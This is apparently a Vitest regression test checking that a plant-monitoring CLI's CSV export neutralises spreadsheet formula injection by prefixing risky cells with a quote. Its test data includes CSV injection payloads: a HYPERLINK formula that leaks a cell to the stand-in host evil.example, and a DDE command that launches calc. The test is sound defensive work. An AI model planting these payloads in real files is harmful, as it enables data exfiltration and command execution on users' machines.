/**
 * Regression: `linewatch export` wrote a text channel's readings (a part's serial number from the PLC, an OPC UA
 * string, an MQTT field: whatever the plant network sends) into the CSV as they came, so a serial number such as
 * `=HYPERLINK(...)` ran as a formula in the spreadsheet an engineer opened the export in (CSV injection). A cell a
 * spreadsheet would take for a formula is written after a `'`; a number (`-5`) as it is. A real local store (the
 * gateway's schema and inserts) under the demo configuration; the CLI in a child process.
 */
import { mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Sample } from '../../src/core/types.js';
import { insertRows, openStoreDatabase, prepareStatements } from '../../src/sinks/local/store-tables.js';
import { runCli } from '../helpers/cli.js';
import { writeDemoConfig } from '../helpers/demo-config-file.js';

const T0 = Date.UTC(2026, 11, 6, 9, 0, 0);

/** The serial numbers the press's PLC sent, one per poll: formulas, and values a spreadsheet reads as they are. */
const SERIALS = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\tTAB',
  '-5',
  'PRS-7',
];

describe('linewatch export of text channels', () => {
  it('writes a reading a spreadsheet would take for a formula after a quote, and others as they came', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'lw-export-formula-'));
    const config = await writeDemoConfig(dir);
    const samples: Sample[] = [];
    for (const [i, serial] of SERIALS.entries()) {
      const ts = T0 + i * 200;
      for (const [channel, value] of Object.entries({ force: 10 + i, position: i, cycle_active: 1 }))
        samples.push({ source: 'press-plc', asset: 'press-1', channel, ts, value, quality: 'good' });
      samples.push({
        source: 'press-plc',
        asset: 'press-1',
        channel: 'serial',
        ts,
        value: NaN,
        quality: 'good',
        text: serial,
      });
    }
    const db = openStoreDatabase(join(dir, 'store.db'));
    db.transaction(() =>
      insertRows(prepareStatements(db), { samples, scores: [], parts: [], alarms: [], holds: [], gaps: [] }),
    )();
    db.close();
    const out = join(dir, 'press.csv');
    const res = await runCli(['export', '--config', config, '--asset', 'press-1', '--out', out]);
    expect(res.code, res.stderr).toBe(0);
    const lines = (await readFile(out, 'utf8')).trim().split('\n');
    // Under the header, the units the demo configuration gives force and position (none for the trigger and serial).
    expect(lines[1]).toBe(',kN,mm,,');
    const serials = lines.slice(2).map((line) => line.split(',').slice(4).join(',')); // after timestamp, force, position and cycle_active
    expect(serials).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`,
      `'+cmd|' /C calc'!A0`,
      `'-2+3`,
      `'@SUM(1+1)`,
      `"'\tTAB"`,
      '-5',
      'PRS-7',
    ]);
  }, 60_000);
});
